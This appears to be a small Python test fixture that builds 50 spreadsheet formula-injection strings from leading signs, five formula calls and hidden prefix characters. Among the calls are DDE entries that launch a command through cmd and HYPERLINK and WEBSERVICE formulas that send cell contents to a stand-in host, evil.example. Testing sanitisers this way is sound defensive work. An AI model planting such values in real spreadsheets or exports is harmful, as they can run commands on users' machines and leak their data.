"""50 cells that a spreadsheet would work out, or let lead somewhere."""

_CALLS = (
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://evil.example/?"&A1,"看")',
    'WEBSERVICE("http://evil.example")',
    'DDE("cmd";"/C calc";"x")',
)
_SIGNS = ("=", "+", "-", "@", "＝", "＋", "－", "＠")
_BEFORE = (
    "\t=",
    "\r=",
    "\n=",
    " =",
    "\u3000=",
    "\u00a0=",
    "\ufeff=",
    '"=',
    "\u2060=",
    "\u200b@",
)


def formulas() -> list[str]:
    """Each sign with each call, then what may stand before one."""
    plain = [sign + call for sign in _SIGNS for call in _CALLS]
    return plain + [f"{before}1+1" for before in _BEFORE]
